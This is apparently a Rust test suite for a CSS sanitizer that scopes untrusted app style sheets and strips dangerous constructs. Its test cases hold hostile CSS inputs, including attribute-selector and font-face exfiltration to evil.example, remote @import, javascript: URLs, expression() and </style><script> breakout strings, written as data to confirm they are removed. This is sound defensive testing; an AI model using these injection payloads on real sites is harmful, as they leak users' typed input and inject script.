//! The style sheet cleaner against authors of bad will, and of good.

#[path = "css/checker.rs"]
mod checker;
#[path = "css/pieces.rs"]
mod pieces;

use lapak_preview::css::{CleanOptions, Cleaned, MAX_BYTES, MAX_CLEANED_BYTES, clean};
use pieces::piece;
use proptest::prelude::*;

fn options(route: Option<&str>) -> CleanOptions<'_> {
    CleanOptions {
        route,
        asset_base: "f/",
        has_file: &|path| ["common/sate.svg", "common/a b.png", "manifest.json"].contains(&path),
    }
}

fn cleaned(source: &str) -> Cleaned {
    let cleaned = clean(source, &options(None));
    assert_eq!(
        checker::fault(&cleaned.css, ".lp-app"),
        None,
        "from {source:?}: {}",
        cleaned.css
    );
    cleaned
}

/// Each source, and all that is left of it. Every one of them has to say why.
fn each_leaves(cases: &[(&str, &str)]) {
    for (source, left) in cases {
        let cleaned = cleaned(source);
        assert_eq!(
            cleaned.css.trim_end(),
            *left,
            "from {source:?}: {:?}",
            cleaned.notes
        );
        assert!(
            !cleaned.notes.is_empty(),
            "{source:?} is left out without a word"
        );
    }
}

#[test]
fn nothing_leaves_the_box() {
    each_leaves(&[
        (".a{position:fixed}", ""),
        (".a{position:sticky;top:0}", ".lp-app .a{top:0}"),
        (".a{position:f\\69xed}", ""),
        (".a{position:FIXED !important}", ""),
        (".a{position:-webkit-sticky}", ""),
        (".a{position:var(--p)}", ""),
        (".a{--lp-ground:red}", ""),
        (".a{--shell-bar:red}", ""),
        (".a{all:unset}", ""),
        (".a{container:lp-app / size}", ""),
        (".a{view-transition-name:shell-bar}", ""),
        (".a{anchor-name:--x}", ""),
        (".a{behavior:url(x.htc)}", ""),
        (".a{-moz-binding:url(x.xml#y)}", ""),
    ]);
}

#[test]
fn what_is_not_the_apps_is_not_selected() {
    each_leaves(&[
        (
            ".lp-app{contain:none!important;overflow:visible!important}",
            "",
        ),
        (".lp-app .a{color:red}", ""),
        (".LP-App{color:red}", ""),
        (".\\6cp-app{color:red}", ""),
        (".shell-bar{display:none}", ""),
        (".shell-bar,.a{color:red}", ""),
        (".a:not(.lp-app){color:red}", ""),
        ("html,body{display:none}", ""),
        ("html body .a{color:red}", ""),
        ("#shell{display:none}", ""),
        (":host{color:red}", ""),
        (":host-context(body){color:red}", ""),
        (".a:has(input){color:red}", ""),
        (":is(html){color:red}", ""),
        (":where(.lp-app){color:red}", ""),
        ("*|*{color:red}", ""),
        ("svg|a{color:red}", ""),
        (">.a{color:red}", ""),
        ("~.a{color:red}", ""),
        ("+ .a{color:red}", ""),
        (".a,{color:red}", ""),
        ("&{color:red}", ""),
        ("::part(bar){color:red}", ""),
        ("::slotted(*){color:red}", ""),
        (".a::view-transition{color:red}", ""),
        ("{color:red}", ""),
    ]);
}

#[test]
fn nothing_typed_can_be_read() {
    each_leaves(&[
        (
            "input[value^=a]{background:url(https://evil.example/a)}",
            "",
        ),
        ("[data-n=\"3\"]{color:red}", ""),
        (".a:not([value=x]){color:red}", ""),
        ("input:valid{color:red}", ""),
        (".a::before{content:attr(value)}", ""),
        (
            "@font-face{font-family:x;src:url(https://evil.example/f);unicode-range:U+41}",
            "",
        ),
    ]);
}

#[test]
fn nothing_is_loaded_from_elsewhere() {
    each_leaves(&[
        ("@import url(https://evil.example/x.css);", ""),
        ("@import 'x.css';.a{color:red}", ".lp-app .a{color:red}"),
        ("@\\69mport 'x.css';", ""),
        (".a{background:url(https://evil.example/a.png)}", ""),
        (".a{background:url(//evil.example/a.png)}", ""),
        (".a{background:url('javascript:alert(1)')}", ""),
        (".a{background:u\\72l(https://evil.example)}", ""),
        (".a{background:u\\72l(\"https://evil.example\")}", ""),
        (".a{background:URL(  https://evil.example  )}", ""),
        (".a{background:url(data:image/svg+xml,x)}", ""),
        (".a{background:url(common/../../other/x.svg)}", ""),
        (".a{background:url(manifest.json)}", ""),
        (".a{background:url(common/gone.svg)}", ""),
        (".a{background:url(common/sate.svg, x)}", ""),
        (".a{background:image-set('https://evil.example' 1x)}", ""),
        (".a{background:-webkit-image-set(url(x) 1x)}", ""),
        (".a{background:src('https://evil.example')}", ""),
        (".a{background:paint(x)}", ""),
        (".a{background:element(#x)}", ""),
        (".a{background:cross-fade(url(x),url(y))}", ""),
        (".a{background:linear-gradient(url(x),red)}", ""),
        (".a{width:expression(alert(1))}", ""),
        (".a{width:env(safe-area-inset-top)}", ""),
        (".a{--x:url(https://evil.example)}", ""),
        (".a{--x:calc(1px + url(https://evil.example))}", ""),
        (".a{--x:{url(https://evil.example)}}", ""),
        (".a{cursor:url(common/sate.svg),auto}", ""),
        (".a{filter:url(common/sate.svg)}", ""),
        (".a{content:url(common/sate.svg)}", ""),
        (
            "@keyframes k{to{background:url(https://evil.example)}}.a{color:red}",
            "@keyframes app-k{to{}}\n.lp-app .a{color:red}",
        ),
    ]);
}

#[test]
fn nothing_breaks_out_of_its_rule() {
    each_leaves(&[
        ("}} body{color:red}", ""),
        ("@media{}}} .a{color:red}", ""),
        (".a{color:red}}", ".lp-app .a{color:red}"),
        (
            ".a{content:\"</style><script>alert(1)</script>\\A\";x:y}",
            ".lp-app .a{content:\"\\3c /style>\\3c script>alert(1)\\3c /script>\\a \"}",
        ),
        (".a\\<\\/style\\>{color:red}", ""),
        (".a{font-family:x\\<\\/style\\>}", ""),
        (".a{color:#\\<\\/style}", ""),
        (".a\\{\\}b{color:red}", ""),
        (".a{--\\{x:1}", ""),
        (".a{--x:\\}body}", ""),
        (
            ".a{color:red;--x:\"\n}body{color:red}",
            ".lp-app .a{color:red}",
        ),
        (".a{color:red;b\\:c:d}", ".lp-app .a{color:red}"),
        (".a{background:url(x\"y}body{color:red}", ""),
        (".a{color:red)}", ""),
        (".a{color:rgb(1,2,3]}", ""),
        (".a{color:(}", ""),
        (".a{.b{color:red}}", ""),
        (".a{@media all{color:red}}", ""),
        (".a{color:red!ie}", ""),
        (".a{color:red !important !x}", ""),
        ("<style>.a{color:red}", ""),
    ]);
}

#[test]
fn other_at_rules_are_refused() {
    each_leaves(&[
        ("@charset \"utf-7\";", ""),
        ("@namespace x url(y);", ""),
        ("@layer a{.a{color:red}}", ""),
        ("@property --x{syntax:'*';inherits:false}", ""),
        ("@scope(body){.a{color:red}}", ""),
        ("@page{margin:0}", ""),
        ("@supports(color:red){.a{color:red}}", ""),
        ("@container shell (width>1px){.a{color:red}}", ""),
        ("@starting-style{.a{color:red}}", ""),
        ("@view-transition{navigation:auto}", ""),
        ("@media print{.a{color:red}}", ""),
        ("@media not all{.a{color:red}}", ""),
        ("@media (scripting:none){.a{color:red}}", ""),
        ("@media (min-width:calc(1px)){.a{color:red}}", ""),
        ("@media (orientation:x){.a{color:red}}", ""),
        ("@keyframes 'shell-in'{to{color:red}}", ""),
        ("@keyframes a\\}b{to{color:red}}", ""),
    ]);
}

#[test]
fn comments_null_bytes_and_unclosed_ends_change_nothing() {
    let css = |source: &str| cleaned(source).css.trim_end().to_owned();
    assert_eq!(
        css("/* } body{} */.a{/*;*/color:/**/red/* unclosed"),
        ".lp-app .a{color:red}"
    );
    assert_eq!(css(".a{color:red"), ".lp-app .a{color:red}");
    assert_eq!(
        css(".a{content:\"un closed"),
        ".lp-app .a{content:\"un closed\"}"
    );
    assert_eq!(css("<!-- .a{color:red} -->"), ".lp-app .a{color:red}");
    assert!(!css(".a\0b{color:red}").contains('\0'));
    assert!(!css(".a{content:\"\0\"}").contains('\0'));
    assert!(!css(".a{grid-area:1//**/*2}").contains("/*"));
    assert!(!css(".a{content:url/**/(\"https://evil.example\")}").contains("url("));
    assert!(!css(".a{--x:url/**/(\"https://evil.example\")}").contains("url("));
    assert!(!css(".a{--x:u/**/rl(\"https://evil.example\")}").contains("url("));
}

#[test]
fn keyframes_of_the_shell_cannot_be_replaced() {
    let css = cleaned("@keyframes shell-in{from{opacity:0}50%,to{opacity:1}}.a{animation:shell-in 1s;animation-name:shell-in}").css;
    assert_eq!(
        css,
        "@keyframes app-shell-in{from{opacity:0}50%,to{opacity:1}}\n\
         .lp-app .a{animation:app-shell-in 1s;animation-name:app-shell-in}\n"
    );
    each_leaves(&[
        (".a{animation:shell-in 1s}", ""),
        (".a{animation:lp-spin 1s}", ""),
    ]);
}

#[test]
fn huge_and_deep_style_sheets_are_bounded() {
    assert_eq!(cleaned(&".a{color:red}".repeat(MAX_BYTES / 10)).css, "");
    for open in [
        "{",
        "(",
        "[",
        "@media(min-width:1px){",
        ".a{",
        ":not(",
        "calc(",
    ] {
        for start in ["", ".a", ".a{width:", "@keyframes x{"] {
            let source = format!(
                "{start}{}",
                open.repeat((MAX_BYTES - start.len()) / open.len())
            );
            cleaned(&source);
        }
    }
    let conditions = "(min-width:1px) and ".repeat(5_000);
    let many = format!(
        "@media {conditions}(min-width:1px){{{}}}",
        "*{top:0}".repeat(10_000)
    );
    assert_eq!(cleaned(&many).css, "");
    let wide = format!(
        "@media (orientation:{}){{{}}}",
        "x".repeat(90_000),
        "*{top:0}".repeat(10_000)
    );
    assert_eq!(cleaned(&wide).css, "");
    let route = "pages/".repeat(20);
    let growing = format!("{}{{top:0}}", ["*"; 100].join(",")).repeat(1_200);
    let grown = clean(&growing, &options(Some(&route)));
    assert!(grown.css.len() <= MAX_CLEANED_BYTES && !grown.notes.is_empty());
    assert!(cleaned(&"x;".repeat(MAX_BYTES / 2)).notes.len() <= 100);
}

#[test]
fn a_pages_own_rules_hold_on_that_page() {
    let css = clean("page,.a > text{color:red}", &options(Some("pages/me\"nu"))).css;
    let scope = ".lp-app[data-route=\"pages/me\\\"nu\"]";
    assert_eq!(
        css,
        format!("{scope} .lp-page,{scope} .a>.lp-text{{color:red}}\n")
    );
}

#[test]
fn notes_tell_the_line_and_the_cure() {
    let notes = cleaned(".a {\n  color: red;\n  position: fixed;\n}\n#b { top: 0 }\n").notes;
    let told: Vec<_> = notes
        .iter()
        .map(|note| (note.line, note.what.as_str()))
        .collect();
    assert_eq!(told.len(), 2, "{told:?}");
    assert_eq!(told[0].0, 3);
    assert!(
        told[0].1.contains("fixed") && told[0].1.contains("scroll"),
        "{told:?}"
    );
    assert_eq!(told[1].0, 5);
    assert!(told[1].1.contains("classes"), "{told:?}");
}

#[test]
fn a_normal_style_sheet_stays_what_it_was() {
    let source = include_str!("css/normal.css");
    let cleaned = cleaned(source);
    assert_eq!(cleaned.notes, []);
    assert_eq!(cleaned.css, include_str!("css/normal-cleaned.css"));
}

#[test]
fn the_examples_lose_nothing() {
    let sheets = [
        include_str!("../../examples/counter/app.css"),
        include_str!("../../examples/warung/app.css"),
    ];
    for sheet in sheets {
        let options = CleanOptions {
            has_file: &|_| true,
            ..options(None)
        };
        let cleaned = clean(sheet, &options);
        assert_eq!(cleaned.notes, []);
        assert_eq!(checker::fault(&cleaned.css, ".lp-app"), None);
    }
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 6_000, ..ProptestConfig::default() })]

    #[test]
    fn whatever_comes_in_only_allowed_things_come_out(pieces in prop::collection::vec(piece(), 0..40)) {
        let source = pieces.concat();
        let cleaned = clean(&source, &options(None));
        prop_assert_eq!(checker::fault(&cleaned.css, ".lp-app"), None, "from {:?}: {}", source, cleaned.css);
    }

    #[test]
    fn whatever_is_in_a_declaration_stays_in_it(pieces in prop::collection::vec(piece(), 0..12)) {
        let source = format!(".a{{{}}}.z{{top:0}}", pieces.concat());
        let cleaned = clean(&source, &options(None));
        prop_assert_eq!(checker::fault(&cleaned.css, ".lp-app"), None, "from {:?}: {}", source, cleaned.css);
    }
}
